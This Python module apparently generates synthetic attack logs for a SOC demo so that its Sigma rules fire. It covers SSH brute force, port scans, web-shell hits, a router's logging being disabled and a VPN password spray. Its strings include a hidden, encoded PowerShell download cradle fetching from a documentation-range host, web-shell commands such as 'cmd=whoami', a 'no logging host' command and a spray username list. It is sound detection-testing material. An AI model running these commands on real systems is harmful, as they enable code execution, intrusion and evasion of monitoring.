"""Attack scenarios that the shipped Sigma rules detect, each with a fresh attacker per round.

The volumes clear the rules' thresholds with margin (rules/soc/README.md, per source: 10 failed
SSH logins or 20 denied ports within 5 minutes, 10 refused VPN log-ins within 10, 5 accounts
within 30) and every burst is stamped over the last two or three seconds (as fast as hydra or
nmap go), so one round is one detection. Attackers come from the RFC 5737 documentation ranges:
a demo must not point at a real network.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from datetime import datetime, timedelta

from collectors.demo import device_logs
from collectors.demo.background import STAFF
from collectors.demo.device_logs import TrafficLog
from collectors.demo.devices import FlowsOut, Outgoing, SiteDevices
from collectors.demo.flow_export import Flow

ATTACKER_NETWORKS = ("203.0.113", "198.51.100", "192.0.2")
SSH_USERS = ("root", "admin", "ubuntu", "oracle", "test", "postgres", "git", "user")
SERVICES = {21: "FTP", 22: "SSH", 23: "TELNET", 25: "SMTP", 53: "DNS", 80: "HTTP", 110: "POP3",
            139: "SAMBA", 143: "IMAP", 443: "HTTPS", 445: "SMB", 1433: "MS-SQL", 3306: "MYSQL",
            3389: "RDP", 5432: "PostgreSQL", 5900: "VNC", 8080: "HTTP-8080"}  # fmt: skip
SCAN_PORTS = (*SERVICES, 111, 135, 389, 465, 587, 636, 993, 995, 1521, 2049, 5985, 6379, 8443,
              9200, 11211, 27017)  # fmt: skip
WEB_SHELLS = (
    ("/uploads/shell.php", "cmd=whoami"),
    ("/wp-content/uploads/2026/11/c99.php", "cmd=id"),
    ("/upload/files/cmd.aspx", "cmd=ipconfig+/all"),
)
ROUTER_ADMINS = ("netadmin", "cisco", "admin")
# A spray list: common accounts and staff names in the agencies' own `hovaten` style.
VPN_USERS = ("admin", "vpn", "administrator", "test", "ketoan", "vanthu", *STAFF)
SOC_COLLECTOR = "10.100.0.10"  # where the province's SOC receives the agencies' syslog
ATTACK_TOOLS = ("python-requests/2.31.0", "curl/8.5.0", "Mozilla/5.0 zgrab/0.x")

Scenario = Callable[[SiteDevices, random.Random, datetime, int], tuple[list[Outgoing], str]]


def attacker_address(rng: random.Random) -> str:
    return f"{rng.choice(ATTACKER_NETWORKS)}.{rng.randrange(1, 255)}"


def ssh_brute_force(
    devices: SiteDevices, rng: random.Random, now: datetime, round_number: int
) -> tuple[list[Outgoing], str]:
    attacker, attempts = attacker_address(rng), rng.randint(12, 16)
    out: list[Outgoing] = []
    for i in range(attempts):
        moment = now - timedelta(seconds=(attempts - i) * 0.15)
        user, port, pid = (
            rng.choice(SSH_USERS),
            rng.randrange(32768, 61000),
            rng.randrange(2000, 60000),
        )
        name = "ssh_brute_force"
        if user != "root" and rng.random() < 0.5:  # sshd logs an unknown user twice
            line = device_logs.sshd_invalid_user(user, attacker, port)
            out.append(devices.sshd(line, moment=moment, pid=pid, scenario=name))
            line = device_logs.sshd_failed_password(user, attacker, port, invalid_user=True)
        else:
            line = device_logs.sshd_failed_password(user, attacker, port)
        out.append(devices.sshd(line, moment=moment, pid=pid, scenario=name))
    return out, (
        f"SSH brute force: {attempts} failed passwords from {attacker} against "
        f"{devices.ssh_hostname} ({devices.site.agency.id})"
    )


def port_scan(
    devices: SiteDevices, rng: random.Random, now: datetime, round_number: int
) -> tuple[list[Outgoing], str]:
    """Seen twice, as a real scan is: FortiGate deny logs and the router's SYN-only flows."""
    attacker = attacker_address(rng)
    target = devices.site.address(1, rng.randrange(10, 30))
    ports = rng.sample(SCAN_PORTS, rng.randint(25, min(40, len(SCAN_PORTS))))
    out: list[Outgoing] = []
    flows = []
    for i, port in enumerate(ports):
        moment = now - timedelta(seconds=(len(ports) - i) * 0.05)
        src_port = rng.randrange(40000, 65000)
        log = TrafficLog(
            src_ip=attacker,
            src_port=src_port,
            dst_ip=target,
            dst_port=port,
            action="deny",
            service=SERVICES.get(port, f"tcp/{port}"),
            policy_id=0,
            inbound=True,
        )
        out.append(devices.firewall(log, moment=moment, scenario="port_scan"))
        ago = round((now - moment).total_seconds() * 1000)
        flows.append(Flow(attacker, target, src_port, port, 6, 1, 44, ago, ago, tcp_flags=0x02))
    out.append(FlowsOut(devices.router(), tuple(flows), "port_scan"))
    return out, (
        f"port scan: {len(ports)} ports of {target} from {attacker} ({devices.site.agency.id})"
    )


def web_shell(
    devices: SiteDevices, rng: random.Random, now: datetime, round_number: int
) -> tuple[list[Outgoing], str]:
    attacker = attacker_address(rng)
    path, query = WEB_SHELLS[round_number % len(WEB_SHELLS)]
    tool = rng.choice(ATTACK_TOOLS)
    requests = (
        ("POST", "/admin/upload.php", 200, 512),
        ("GET", f"{path}?{query}", 200, rng.randrange(40, 400)),
    )
    out: list[Outgoing] = []
    for i, (method, target, status, size) in enumerate(requests):
        moment = now - timedelta(seconds=len(requests) - i)
        line = device_logs.apache_combined(
            client=attacker,
            moment=moment,
            method=method,
            target=target,
            status=status,
            size=size,
            user_agent=tool,
        )
        out.append(devices.web(line, moment=moment, scenario="web_shell"))
    return out, (
        f"web shell: GET {path}?{query} from {attacker} on {devices.web_hostname} "
        f"({devices.site.agency.id})"
    )


def suspicious_powershell(
    devices: SiteDevices, rng: random.Random, now: datetime, round_number: int
) -> tuple[list[Outgoing], str]:
    """A macro document spawning a hidden, encoded download cradle: the classic first stage."""
    attacker, user = attacker_address(rng), rng.choice(STAFF)
    workstation = rng.randrange(1, 40)
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{attacker}/a.ps1')"
    document = f"C:\\Users\\{user}\\Downloads\\CongVan_Khan_{round_number:03d}.docm"
    word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    message = devices.process_creation(
        workstation=workstation,
        user=user,
        image=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        command_line=f"powershell.exe -nop -w hidden -enc {device_logs.powershell_encoded(script)}",
        parent_image=word,
        parent_command_line=f'"{word}" /n "{document}"',
        moment=now,
        scenario="suspicious_powershell",
    )
    host = f"PC-{devices.site.code.upper()}-{workstation:02d}"
    return [message], (
        f"suspicious PowerShell on {host} ({devices.site.agency.id}), cradle to {attacker}"
    )


def router_logging_off(
    devices: SiteDevices, rng: random.Random, now: datetime, round_number: int
) -> tuple[list[Outgoing], str]:
    """A stolen network admin account logs in to the agency's router from outside and stops it
    sending logs to the SOC: what comes before quiet changes to routes and access lists."""
    attacker, user = attacker_address(rng), rng.choice(ROUTER_ADMINS)
    out = [
        devices.router_log(device_logs.ios_login(user, attacker, now), moment=now,
                           scenario="router_logging_off"),
        devices.router_log(device_logs.ios_logged_command(user, f"no logging host {SOC_COLLECTOR}"),
                           moment=now, scenario="router_logging_off"),
    ]  # fmt: skip
    return out, (
        f"router logging off: {user} from {attacker} on {devices.router_hostname} "
        f"({devices.site.agency.id})"
    )


def vpn_password_spray(
    devices: SiteDevices, rng: random.Random, now: datetime, round_number: int
) -> tuple[list[Outgoing], str]:
    """One password tried on many accounts of the agency's SSL VPN portal: a dozen or more
    refusals for eight names from one address, which is both a brute force and a spray."""
    attacker, attempts = attacker_address(rng), rng.randint(12, 16)
    users = rng.sample(VPN_USERS, 8)
    out: list[Outgoing] = []
    for i in range(attempts):
        moment = now - timedelta(seconds=(attempts - i) * 0.2)
        out.append(devices.vpn_login_failure(users[i % len(users)], attacker, moment=moment,
                                             scenario="vpn_password_spray"))  # fmt: skip
    return out, (
        f"VPN password spray: {attempts} refused log-ins for {len(users)} accounts from "
        f"{attacker} on {devices.site.firewall_name} ({devices.site.agency.id})"
    )


SCENARIOS: tuple[Scenario, ...] = (
    ssh_brute_force,
    port_scan,
    web_shell,
    suspicious_powershell,
    router_logging_off,
    vpn_password_spray,
)


def attack_round(
    sites: list[SiteDevices], rng: random.Random, *, now: datetime, round_number: int
) -> tuple[list[Outgoing], list[str]]:
    """Every scenario once, each against the next agency (wrapping round), rotating round by
    round."""
    out: list[Outgoing] = []
    descriptions = []
    for i, scenario in enumerate(SCENARIOS):
        devices = sites[(round_number + i) % len(sites)]
        messages, description = scenario(devices, rng, now, round_number)
        out += messages
        descriptions.append(description)
    return out, descriptions
